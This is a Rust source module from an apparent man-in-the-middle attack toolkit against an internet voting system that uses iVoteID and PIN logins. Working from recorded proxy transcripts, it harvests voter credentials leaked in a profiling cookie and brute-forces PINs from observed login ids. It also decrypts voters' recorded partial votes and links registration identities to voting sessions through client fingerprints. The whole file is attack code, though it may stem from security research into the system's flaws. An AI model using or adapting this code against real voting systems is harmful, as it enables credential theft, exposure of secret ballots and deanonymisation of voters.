//! Offline work over recorded transcripts.

use std::collections::{BTreeMap, BTreeSet};

use serde::{Deserialize, Serialize};

use crate::bruteforce::{self, CrackOptions, Keyspace, Progress};
use crate::crypto::{aead, open_credential_file, CredentialFile, Credentials, Kdf, LoginId, SchemeParams};
use crate::protocol::page::PROFILE_COOKIE;
use crate::protocol::{from_body, EndpointKind, LoginRequest, PartialVote, Preferences, RegisterRequest, TokenFile};

use super::transcript::{Direction, SessionId, Transcript};
use super::ProxyError;

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Harvested {
    pub session_id: SessionId,
    pub client_fingerprint: Option<String>,
    pub creds: Credentials,
    /// When the leaking request passed the proxy.
    pub observed_ms: u64,
}

fn query_fields(value: &str) -> BTreeMap<&str, &str> {
    value.split('&').filter_map(|kv| kv.split_once('=')).collect()
}

/// Login ids the client sent in this transcript, in order.
pub fn observed_login_ids(t: &Transcript) -> Vec<LoginId> {
    t.requests(EndpointKind::Login)
        .filter_map(|m| m.body.as_deref())
        .filter_map(|b| from_body::<LoginRequest>(b).ok())
        .map(|l| l.voter_id)
        .collect()
}

/// Credentials leaked through the profiling cookie. A cookie is only taken
/// from a request that passed within `lifetime_secs` of the cookie's own
/// timestamp. When the transcript holds a login id, pairs that do not
/// derive it are dropped.
pub fn harvest_credentials(t: &Transcript, params: &SchemeParams, lifetime_secs: u64) -> Vec<Harvested> {
    let kdf = Kdf::new(params.iterations).expect("validated params");
    let login_ids: BTreeSet<LoginId> = observed_login_ids(t).into_iter().collect();
    let mut seen = BTreeSet::new();
    let mut out = Vec::new();
    for m in t.messages.iter().filter(|m| m.direction == Direction::ClientToServer) {
        let Some(cookie) = m.cookies.get(PROFILE_COOKIE) else { continue };
        let f = query_fields(cookie);
        let (Some(id), Some(pin), Some(Ok(set_ms))) = (f.get("id"), f.get("pin"), f.get("t").map(|t| t.parse::<u64>())) else {
            continue;
        };
        if m.timestamp_ms < set_ms || m.timestamp_ms - set_ms > lifetime_secs * 1000 {
            continue;
        }
        let Ok(creds) = Credentials::with_params(id, pin, params) else {
            continue;
        };
        if !login_ids.is_empty() && !login_ids.contains(&kdf.login_id(&creds)) {
            continue;
        }
        if seen.insert(creds.clone()) {
            out.push(Harvested {
                session_id: t.session_id,
                client_fingerprint: t.client_fingerprint.clone(),
                creds,
                observed_ms: m.timestamp_ms,
            });
        }
    }
    out
}

/// Brute-forces the first login id in the transcript. With a hint only
/// that iVoteID's PINs are searched.
pub fn crack_session(
    t: &Transcript,
    params: &SchemeParams,
    known_id_hint: Option<&str>,
    opts: &CrackOptions,
) -> Result<Credentials, ProxyError> {
    crack_session_with(t, params, known_id_hint, opts, &mut |_| {})
}

pub fn crack_session_with(
    t: &Transcript,
    params: &SchemeParams,
    known_id_hint: Option<&str>,
    opts: &CrackOptions,
    progress: &mut dyn FnMut(&Progress),
) -> Result<Credentials, ProxyError> {
    let target = observed_login_ids(t)
        .into_iter()
        .next()
        .ok_or_else(|| ProxyError::Precondition("transcript holds no login id".into()))?;
    let ks = match known_id_hint {
        Some(id) => Keyspace::fixed(id, params.pin_digits as u32, params.iterations),
        None => Keyspace::all(params.id_digits as u32, params.pin_digits as u32, params.iterations),
    };
    let found = bruteforce::crack_with(&target, &ks, opts, progress)?;
    Credentials::with_params(found.creds.ivote_id(), found.creds.pin(), params).map_err(|e| ProxyError::Precondition(e.to_string()))
}

/// The most recent credential file the server returned in this transcript.
pub fn recorded_credential_file(t: &Transcript) -> Option<CredentialFile> {
    t.ok_responses(EndpointKind::Login)
        .filter_map(|b| CredentialFile::from_json(b).ok())
        .last()
}

pub fn recorded_token(t: &Transcript) -> Option<TokenFile> {
    t.ok_responses(EndpointKind::Token).filter_map(|b| from_body(b).ok()).last()
}

/// Every partial vote that crossed the proxy, oldest first: those listed in
/// token responses and those posted, each blob once.
pub fn recorded_partials(t: &Transcript) -> Vec<PartialVote> {
    let mut seen = BTreeSet::new();
    let mut out = Vec::new();
    for (i, m) in t.messages.iter().enumerate() {
        let Some(body) = m.body.as_deref() else { continue };
        let batch: Vec<PartialVote> = match (m.direction, m.kind()) {
            (Direction::ServerToClient, Some(EndpointKind::Token)) if m.ok == Some(true) => {
                from_body::<TokenFile>(body).map(|tf| tf.partial_votes).unwrap_or_default()
            }
            (Direction::ClientToServer, Some(EndpointKind::PartialVote)) => {
                let rejected = t
                    .messages
                    .get(i + 1)
                    .is_some_and(|r| r.endpoint == m.endpoint && r.ok == Some(false));
                match from_body::<PartialVote>(body) {
                    Ok(pv) if !rejected => vec![pv],
                    _ => Vec::new(),
                }
            }
            _ => Vec::new(),
        };
        for pv in batch {
            if seen.insert(pv.eo.to_bytes()) {
                out.push(pv);
            }
        }
    }
    out
}

#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct PartialRecovery {
    /// Decrypted partial votes in submission order.
    pub recovered: Vec<Preferences>,
    /// Positions (in submission order) of blobs that failed to open.
    pub failed: Vec<usize>,
}

impl PartialRecovery {
    pub fn last(&self) -> Option<&Preferences> {
        self.recovered.last()
    }
}

/// Opens the recorded credential file with `creds` and unseals every
/// recorded partial vote with the `kp` inside.
pub fn decrypt_partials(t: &Transcript, params: &SchemeParams, creds: &Credentials) -> Result<PartialRecovery, ProxyError> {
    let file = recorded_credential_file(t).ok_or_else(|| ProxyError::Precondition("no credential file recorded".into()))?;
    let partials = recorded_partials(t);
    let kdf = Kdf::new(params.iterations).expect("validated params");
    let Ok(keys) = open_credential_file(&kdf, creds, &file) else {
        return Ok(PartialRecovery {
            recovered: Vec::new(),
            failed: (0..partials.len()).collect(),
        });
    };
    let mut r = PartialRecovery::default();
    for (i, pv) in partials.iter().enumerate() {
        match aead::unseal(&keys.kp, &pv.eo).ok().and_then(|p| Preferences::from_json(&p).ok()) {
            Some(prefs) => r.recovered.push(prefs),
            None => r.failed.push(i),
        }
    }
    Ok(r)
}

/// Joins registration identities to voting sessions through the client
/// fingerprint. A fingerprint links only when it belongs to exactly one
/// registered identity and one voting session (preferring sessions that
/// cast); anything ambiguous is left out.
pub fn link_sessions(transcripts: &[Transcript]) -> BTreeMap<String, SessionId> {
    let mut identities: BTreeMap<&str, BTreeSet<String>> = BTreeMap::new();
    let mut voting: BTreeMap<&str, (BTreeSet<SessionId>, BTreeSet<SessionId>)> = BTreeMap::new();
    for t in transcripts {
        let Some(fp) = t.client_fingerprint.as_deref() else { continue };
        for m in t.requests(EndpointKind::Register) {
            if let Some(r) = m.body.as_deref().and_then(|b| from_body::<RegisterRequest>(b).ok()) {
                identities.entry(fp).or_default().insert(r.identity);
            }
        }
        if t.requests(EndpointKind::Login).next().is_some() {
            let entry = voting.entry(fp).or_default();
            entry.0.insert(t.session_id);
            if t.requests(EndpointKind::Vote).next().is_some() {
                entry.1.insert(t.session_id);
            }
        }
    }
    let mut links = BTreeMap::new();
    for (fp, ids) in identities {
        let Some((all, cast)) = voting.get(fp) else { continue };
        let pick = if cast.is_empty() { all } else { cast };
        if ids.len() == 1 && pick.len() == 1 {
            links.insert(ids.into_iter().next().unwrap(), *pick.iter().next().unwrap());
        }
    }
    links
}
